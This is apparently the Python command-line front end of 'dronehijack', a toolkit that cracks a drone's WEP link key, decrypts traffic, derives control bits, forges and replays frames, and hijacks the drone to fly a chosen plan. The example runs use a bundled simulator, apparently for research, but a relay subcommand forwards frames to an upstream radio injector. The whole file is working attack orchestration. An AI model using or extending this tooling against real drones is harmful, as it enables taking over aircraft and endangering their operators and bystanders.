"""Command-line front end: one subcommand per attack stage, files in between.

A full run against the simulator::

    dronehijack simulate --out ref.dwcp --obs ref.obs.jsonl
    dronehijack crack-wep ref.dwcp
    dronehijack decrypt ref.dwcp --key a1b2c3d4e5 --out ref.dec.dwcp
    dronehijack filter ref.dec.dwcp
    dronehijack correlate ref.dec.dwcp --obs ref.obs.jsonl --out corr.json
    dronehijack bitdiff corr.json --out bits.json
    dronehijack forge ref.dec.dwcp --key a1b2c3d4e5 --command FullUp

Active stages talk to a radio behind the TCP relay::

    dronehijack simulate --serve 127.0.0.1:7001 --rc-off
    dronehijack hijack --relay 127.0.0.1:7001 --key a1b2c3d4e5 --channel auto
"""

from __future__ import annotations

import argparse
import json
import logging
import sys
from pathlib import Path
from typing import Optional

try:
    import tomllib
except ModuleNotFoundError:  # Python 3.10
    import tomli as tomllib

from . import __version__, data
from .analysis import (
    AnalysisConfig,
    CorrelationReport,
    associate,
    build_series,
    derive_bit_table,
    dominant_length,
    length_histogram,
    series_csv,
)
from .attack import (
    ConnectionLost,
    DirectTransport,
    ForgedFrames,
    HijackPlan,
    RelayClient,
    RelayProxy,
    TakeoverMode,
    extract_templates,
    forge_session,
    handshake_segment,
    hijack,
    relay_serve,
    replay,
)
from .attack.relay import parse_endpoint
from .captureio import export_pcap, read_capture, read_observations, write_capture, write_observations
from .framing import CommandId
from .linkproto import LinkConfig, NotFound, detect_beacon_channel, dot11
from .linkproto.config import CHANNELS_5GHZ
from .simworld import ScenarioScript, build_world, run_scenario
from .wepcrypt import WepKey, crack_session, decrypt_capture

log = logging.getLogger("dronehijack")

_LINK_FIELDS = {
    "channel",
    "width_mhz",
    "drone_ip",
    "rc_ip",
    "beacon_interval_ms",
    "peer_timeout_ms",
    "ssid_hidden",
    "drone_mac",
    "rc_mac",
    "control_rate_hz",
    "arp_retry_ms",
    "heartbeat_ms",
}
_MODES = {"coexist": TakeoverMode.CoexistWithRc, "after-disconnect": TakeoverMode.AfterRcDisconnect}


class PipelineError(Exception):
    """A stage ran but could not produce its artifact."""


# ------------------------------------------------------------------ helpers


def _load_config(path: Optional[str]) -> dict:
    if not path:
        return {}
    try:
        with open(path, "rb") as fh:
            doc = tomllib.load(fh)
    except (OSError, tomllib.TOMLDecodeError) as exc:
        raise PipelineError(f"config {path}: {exc}") from exc
    unknown = set(doc.get("link", {})) - _LINK_FIELDS
    if unknown:
        raise PipelineError(f"config {path}: unknown [link] keys {sorted(unknown)}")
    return doc


def _link_config(args, key: WepKey) -> LinkConfig:
    return LinkConfig(wep_key=key, **args.config.get("link", {}))


def _analysis_config(args) -> AnalysisConfig:
    return AnalysisConfig(**args.config.get("analysis", {}))


def _key(text: str) -> WepKey:
    try:
        return WepKey.from_hex(text)
    except ValueError as exc:
        raise argparse.ArgumentTypeError(str(exc)) from exc


def _channel(text: str):
    if text == "auto":
        return None
    return _channels(text)[0]


def _endpoint(text: str):
    try:
        return parse_endpoint(text)
    except ValueError as exc:
        raise argparse.ArgumentTypeError(str(exc)) from exc


def _mac(text: str) -> bytes:
    raw = bytes.fromhex(text.replace(":", ""))
    if len(raw) != 6:
        raise PipelineError(f"bad MAC address {text!r}")
    return raw


def _emit(args, doc, text: Optional[str] = None) -> None:
    if args.json or text is None:
        print(json.dumps(doc, indent=2, sort_keys=True))
    else:
        print(text)


def _write_json(path, doc) -> None:
    Path(path).write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")


def _script(args) -> ScenarioScript:
    script = ScenarioScript.load(args.script) if args.script else data.reference_scenario()
    doc = script.to_dict()
    if args.seed is not None:
        doc["seed"] = args.seed
    doc["link"] = {**doc.get("link", {}), **args.config.get("link", {})}
    return ScenarioScript.from_dict(doc)


# ------------------------------------------------------------- subcommands


def cmd_simulate(args) -> int:
    script = _script(args)
    if args.serve:
        return _serve(args, script)
    result = run_scenario(script)
    written = write_capture(args.out, result.capture)
    if args.obs:
        write_observations(args.obs, result.observations)
    if args.pcap:
        export_pcap(result.capture, args.pcap)
    doc = {
        "capture": str(args.out),
        "records": written,
        "observations": len(result.observations),
        "channel": script.link_config().channel,
        "seed": script.seed,
    }
    _emit(args, doc, f"wrote {written} records to {args.out}")
    return 0


def _serve(args, script: ScenarioScript) -> int:
    world = build_world(script)
    world.run_for(1.0)
    if args.rc_off:
        world.power_off_rc()
        world.run_for(world.cfg.peer_timeout_ms / 1000 + 0.2)
    server = relay_serve(args.serve, DirectTransport(world, "attacker", channel=args.radio_channel))
    host, port = server.endpoint
    print(f"listening on {host}:{port}", flush=True)
    try:
        server._thread.join()
    except KeyboardInterrupt:
        pass
    finally:
        server.stop()
        if args.out:
            write_capture(args.out, world.capture)
    return 0


def cmd_scan(args) -> int:
    if args.capture:
        found = None
        for rec in read_capture(args.capture):
            try:
                frame = dot11.parse_dot11(rec.frame)
            except dot11.MalformedFrame:
                continue
            if frame.is_beacon and dot11.beacon_role(frame) == dot11.ROLE_DRONE:
                found = dot11.beacon_channel(frame) or rec.channel
                break
        if found is None:
            raise NotFound(f"no drone beacon in {args.capture}")
        channel = found
    else:
        from .attack import transport_scanner

        with RelayClient(args.relay) as client:
            channel = detect_beacon_channel(transport_scanner(client), args.channels, dwell_ms=args.dwell_ms)
    _emit(args, {"channel": channel}, str(channel))
    return 0


def cmd_crack(args) -> int:
    lengths = {"40": (5,), "104": (13,), "auto": (5, 13)}[args.bits]
    key = crack_session(read_capture(args.capture), lengths, budget=args.budget)
    _emit(args, {"key": key.hex(), "bits": key.bits}, key.hex())
    return 0


def cmd_decrypt(args) -> int:
    records = decrypt_capture(read_capture(args.capture), args.key)
    written = write_capture(args.out, records)
    plain = sum(1 for r in records if r.decrypted)
    _emit(args, {"records": written, "decrypted": plain}, f"decrypted {plain} of {written} records")
    return 0


def cmd_filter(args) -> int:
    hist = length_histogram(read_capture(args.capture))
    doc = hist.to_json()
    if args.out:
        _write_json(args.out, doc)
    print(json.dumps(doc, indent=2, sort_keys=True))
    return 0


def cmd_correlate(args) -> int:
    capture = read_capture(args.capture)
    cfg = _analysis_config(args)
    length = args.length if args.length is not None else dominant_length(length_histogram(capture))
    series = build_series(capture, length, cfg)
    if args.series_csv:
        Path(args.series_csv).write_text(series_csv(series))
    report = associate(series, read_observations(args.obs), cfg)
    doc = report.to_json()
    if args.out:
        _write_json(args.out, doc)
    print(json.dumps(doc, indent=2, sort_keys=True))
    return 0


def cmd_bitdiff(args) -> int:
    report = CorrelationReport.from_json(json.loads(Path(args.report).read_text()))
    table = derive_bit_table(report)
    doc = table.to_json()
    if args.out:
        _write_json(args.out, doc)
    print(json.dumps(doc, indent=2, sort_keys=True))
    return 0


def _templates(args, cfg: LinkConfig) -> ForgedFrames:
    if getattr(args, "templates", None):
        return ForgedFrames.from_json(json.loads(Path(args.templates).read_text()))
    return ForgedFrames.reference(cfg)


def cmd_forge(args) -> int:
    cfg = _link_config(args, args.key)
    if args.capture:
        templates = extract_templates(read_capture(args.capture), cfg.crc)
    else:
        templates = ForgedFrames.reference(cfg)
    if args.templates_out:
        _write_json(args.templates_out, templates.to_json())
    factory = forge_session(args.key, templates, _mac(args.attacker_mac), channel=cfg.channel)
    factory.drone_mac = _mac(args.drone_mac) if args.drone_mac else cfg.drone_mac_bytes
    frames = {
        "beacon": factory.beacon(0).hex(),
        "arp_request": factory.arp_request().hex(),
        "initiator": factory.initiator().hex(),
        "control": factory.control(args.command).hex(),
    }
    _emit(args, frames, "\n".join(f"{k} {v}" for k, v in frames.items()))
    return 0


def cmd_replay(args) -> int:
    capture = read_capture(args.capture)
    sender = _mac(args.sender)
    segment = handshake_segment(capture, sender, args.duration)
    if not segment:
        raise PipelineError(f"no ARP request from {args.sender} in {args.capture}")
    with RelayClient(args.relay) as client:
        result = replay(segment, client, args.channel)
    doc = result.to_json()
    if args.out:
        _write_json(args.out, doc)
    _emit(args, doc, f"replayed {result.injected} frames on channel {result.channel}")
    return 0


def cmd_hijack(args) -> int:
    cfg = _link_config(args, args.key)
    plan = HijackPlan.load(args.plan) if args.plan else data.all10_plan()
    if args.mode:
        plan = plan.with_mode(_MODES[args.mode])
    gap = args.config.get("hijack", {}).get("gap", 0.5)
    settle = args.config.get("hijack", {}).get("settle", 0.3)
    with RelayClient(args.relay, tick_us=args.tick_us) as client:
        report = hijack(
            plan,
            client,
            args.key,
            _templates(args, cfg),
            channel=args.channel,
            channels=args.channels,
            gap=gap,
            settle=settle,
        )
    doc = report.to_json()
    if args.out:
        _write_json(args.out, doc)
    _emit(args, doc, f"{report.verified_count}/{len(report.steps)} steps verified on channel {report.channel}")
    return 0 if report.all_verified else 1


def cmd_relay(args) -> int:
    proxy = RelayProxy(args.listen, args.upstream)
    host, port = proxy.server_address[:2]
    print(f"relaying {host}:{port} -> {args.upstream[0]}:{args.upstream[1]}", flush=True)
    try:
        proxy.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        proxy.server_close()
    return 0


# ------------------------------------------------------------------ parser


def _channels(text: str):
    try:
        channels = [int(c) for c in text.split(",") if c]
    except ValueError as exc:
        raise argparse.ArgumentTypeError("channels are comma-separated numbers") from exc
    bad = [c for c in channels if c not in CHANNELS_5GHZ]
    if bad or not channels:
        raise argparse.ArgumentTypeError(f"channels must be drawn from {list(CHANNELS_5GHZ)}")
    return channels


def _global_flags(p: argparse.ArgumentParser, default, flag_default) -> None:
    p.add_argument("--seed", type=int, default=default, help="override the scenario seed")
    p.add_argument("--config", default=default, help="TOML file with [link], [analysis] and [hijack] tables")
    p.add_argument("--json", action="store_true", default=flag_default, help="machine-readable stdout")
    p.add_argument("-v", "--verbose", action="store_true", default=flag_default)


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="dronehijack", description="WEP drone-link analysis and hijack toolkit")
    p.add_argument("--version", action="version", version=__version__)
    _global_flags(p, None, False)
    common = argparse.ArgumentParser(add_help=False)
    # repeated on subcommands so flags work after the subcommand name too
    _global_flags(common, argparse.SUPPRESS, argparse.SUPPRESS)
    sub = p.add_subparsers(dest="command", required=True, metavar="SUBCOMMAND")
    _add = sub.add_parser
    sub.add_parser = lambda *a, **kw: _add(*a, parents=[common], **kw)

    s = sub.add_parser("simulate", help="run a scenario and write its capture, or serve its radio")
    s.add_argument("--script", help="scenario JSON (default: bundled reference scenario)")
    s.add_argument("--out", help="capture file to write")
    s.add_argument("--obs", help="observation log (JSON lines)")
    s.add_argument("--pcap", help="also export a pcap")
    s.add_argument("--serve", type=_endpoint, metavar="HOST:PORT", help="expose the attacker radio on a TCP relay")
    s.add_argument("--rc-off", action="store_true", help="with --serve: switch the controller off first")
    s.add_argument("--radio-channel", type=int, default=None, help="with --serve: initial attacker radio channel")
    s.set_defaults(func=cmd_simulate)

    s = sub.add_parser("scan", help="find the drone's beacon channel")
    g = s.add_mutually_exclusive_group(required=True)
    g.add_argument("capture", nargs="?", help="capture file")
    g.add_argument("--relay", type=_endpoint, metavar="HOST:PORT")
    s.add_argument("--channels", type=_channels, default=list(CHANNELS_5GHZ))
    s.add_argument("--dwell-ms", type=int, default=250)
    s.set_defaults(func=cmd_scan)

    s = sub.add_parser("crack-wep", help="recover the WEP key from a capture")
    s.add_argument("capture")
    s.add_argument("--bits", choices=("40", "104", "auto"), default="auto")
    s.add_argument("--budget", type=int, default=None, help="search work per key length (default 20000 for 40-bit, 8000 for 104-bit)")
    s.set_defaults(func=cmd_crack)

    s = sub.add_parser("decrypt", help="write a decrypted copy of a capture")
    s.add_argument("capture")
    s.add_argument("--key", type=_key, required=True)
    s.add_argument("--out", required=True)
    s.set_defaults(func=cmd_decrypt)

    s = sub.add_parser("filter", help="UDP payload length histogram of a decrypted capture")
    s.add_argument("capture")
    s.add_argument("--out")
    s.set_defaults(func=cmd_filter)

    s = sub.add_parser("correlate", help="match control payloads to observed maneuvers")
    s.add_argument("capture", help="decrypted capture")
    s.add_argument("--obs", required=True, help="observation log")
    s.add_argument("--length", type=lambda x: int(x, 0), default=None, help="payload length (default: dominant)")
    s.add_argument("--series-csv", help="write cumulative counts as CSV")
    s.add_argument("--out")
    s.set_defaults(func=cmd_correlate)

    s = sub.add_parser("bitdiff", help="derive the movement bit table from a correlation report")
    s.add_argument("report")
    s.add_argument("--out")
    s.set_defaults(func=cmd_bitdiff)

    s = sub.add_parser("forge", help="build handshake and control frames")
    s.add_argument("capture", nargs="?", help="decrypted capture to take templates from")
    s.add_argument("--key", type=_key, required=True)
    s.add_argument("--command", type=CommandId.parse, default=CommandId.Idle)
    s.add_argument("--attacker-mac", default="02:00:de:0a:0b:0c")
    s.add_argument("--drone-mac", help="drone MAC to address (default: from config)")
    s.add_argument("--templates-out", help="save the templates as JSON")
    s.set_defaults(func=cmd_forge)

    s = sub.add_parser("replay", help="re-inject a recorded handshake segment")
    s.add_argument("--relay", type=_endpoint, required=True, metavar="HOST:PORT")
    s.add_argument("--capture", required=True)
    s.add_argument("--sender", default="60:60:1f:c0:00:02", help="MAC whose frames are replayed")
    s.add_argument("--duration", type=float, default=2.0)
    s.add_argument("--channel", type=int, default=None)
    s.add_argument("--out")
    s.set_defaults(func=cmd_replay)

    s = sub.add_parser("hijack", help="take over the drone and fly a plan")
    s.add_argument("--relay", type=_endpoint, required=True, metavar="HOST:PORT")
    s.add_argument("--key", type=_key, required=True)
    s.add_argument("--plan", help="plan JSON (default: every command once)")
    s.add_argument("--templates", help="templates JSON from forge --templates-out")
    s.add_argument("--channel", type=_channel, default=None, help="number or 'auto'")
    s.add_argument("--channels", type=_channels, default=None, help="scan order for --channel auto")
    s.add_argument("--mode", choices=sorted(_MODES))
    s.add_argument("--tick-us", type=int, default=20_000)
    s.add_argument("--out")
    s.set_defaults(func=cmd_hijack)

    s = sub.add_parser("relay", help="forward relay envelopes to an upstream injector")
    s.add_argument("--listen", type=_endpoint, required=True, metavar="HOST:PORT")
    s.add_argument("--upstream", type=_endpoint, required=True, metavar="HOST:PORT")
    s.set_defaults(func=cmd_relay)
    return p


def main(argv=None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING, format="%(levelname)s %(message)s")
    if args.command == "simulate" and not (args.out or args.serve):
        parser.error("simulate needs --out or --serve")
    try:
        args.config = _load_config(args.config)
        return args.func(args)
    except (PipelineError, LookupError, ValueError, OSError, ConnectionLost) as exc:
        print(f"dronehijack {args.command}: {exc}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
